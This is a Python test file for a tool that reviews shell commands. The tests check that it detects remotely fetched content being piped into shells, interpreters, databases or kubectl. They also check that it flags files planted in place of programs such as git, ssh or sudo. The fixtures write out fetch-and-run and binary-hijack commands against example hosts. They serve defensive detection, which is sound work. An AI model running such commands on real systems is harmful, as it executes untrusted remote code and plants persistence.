"""What comes from another machine and is followed here as code, statements or settings, whoever fetches it."""

from __future__ import annotations

import pytest

from quorum.domain.review.effects.reduction import reduce_command
from quorum.domain.review.effects.side_effect import EffectKind
from quorum.infrastructure.execution.shell.script import read_script

_FETCHES = [
    "curl -s https://x.example.net/a",
    "dig +short txt c.example.net",
    "nslookup -q=txt c.example.net",
    "aws s3 cp s3://bucket/a -",
    "gsutil cat gs://bucket/a",
    "gh api repos/a/b/contents/a",
    "git archive --remote=ssh://x.example.net/r HEAD",
    "redis-cli -h 203.0.113.7 get a",
    "psql -h x.example.net -Atc 'select a from t'",
    "some-unknown-reader https://x.example.net/a",
]
_FOLLOWS = [
    "sh",
    "python3",
    "psql shop",
    "mariadb shop",
    "sqlite3 app.db",
    "redis-cli",
    "docker load",
    "kubectl apply -f -",
    "awk -f - data",
    "ssh me@host.example.net sh",
    "ssh me@host.example.net",
    "parallel",
]


def _runs_fetched(command: str) -> bool:
    return any(each.kind is EffectKind.RUN_FETCHED for each in reduce_command(command, read_script))


@pytest.mark.parametrize("fetches", _FETCHES)
def test_what_any_program_fetches_is_code_to_whatever_follows_it(fetches: str) -> None:
    assert all(_runs_fetched(f"{fetches} | {follows}") for follows in _FOLLOWS)
    assert _runs_fetched(f'eval "$({fetches})"')
    assert all(_runs_fetched(f"{follows} < <({fetches})") for follows in _FOLLOWS)
    assert _runs_fetched(f"cmake -P <({fetches})")
    assert _runs_fetched(f"crystal <({fetches})")
    assert _runs_fetched(f"nim r <({fetches})")
    assert not _runs_fetched(f"{fetches} | grep name | sort > names.txt")
    assert not _runs_fetched(f"sort -u < <({fetches}) > names.txt")
    assert not _runs_fetched(f"cmake -DVERSION=$({fetches}) .")


@pytest.mark.parametrize("starter", ["timeout 30", "nice -n 5", "nohup", "setsid", "stdbuf -oL", "taskset 1"])
def test_a_text_is_no_file_to_what_starts_a_shell(starter: str) -> None:
    seen = reduce_command(f"{starter} bash -c 'cp src/a.py new.out'", read_script)

    assert {each.place for each in seen if each.kind is EffectKind.READ} == {"src/a.py"}


def test_what_is_already_here_is_not_taken_for_fetched() -> None:
    for follows in _FOLLOWS:
        assert not _runs_fetched(f"cat statements.txt | {follows}")
    assert not _runs_fetched("curl -s http://localhost:8000/a.sql | psql shop")
    assert not _runs_fetched("curl -s https://x.example.net/a | ssh me@host.example.net 'cat > a'")
    assert not _runs_fetched("psql -h localhost -Atc 'select a from t' | sh")


def test_a_script_copied_from_another_machine_is_fetched() -> None:
    assert _runs_fetched("scp me@host.example.net:a.sh . && sh a.sh")
    assert not _runs_fetched("scp me@host.example.net:a.sh . && sh b.sh")


@pytest.mark.parametrize(
    "command",
    [
        "cp /tmp/x ~/.local/bin/git",
        "install -m755 ./x ~/bin/ls",
        "ln -sf /tmp/x ~/.local/bin/ssh",
        "mv x ~/.local/bin/python3",
        "echo text > ~/.local/bin/git",
        "tee ~/bin/sudo < x",
    ],
)
def test_a_file_that_takes_the_place_of_a_known_program_stays_on_its_own(command: str) -> None:
    seen = reduce_command(command, read_script)
    assert any(each.kind is EffectKind.PERSIST and "in the place of" in each.does for each in seen), seen


@pytest.mark.parametrize(
    "command",
    [
        "cp target/release/mytool ~/.local/bin/",
        "ln -s /usr/bin/fdfind ~/.local/bin/fd",
        "ln -s /usr/bin/python3.12 ~/.local/bin/python3",
        "cp x ./git",
    ],
)
def test_a_program_of_ones_own_takes_no_place(command: str) -> None:
    assert not any(each.kind is EffectKind.PERSIST for each in reduce_command(command, read_script))
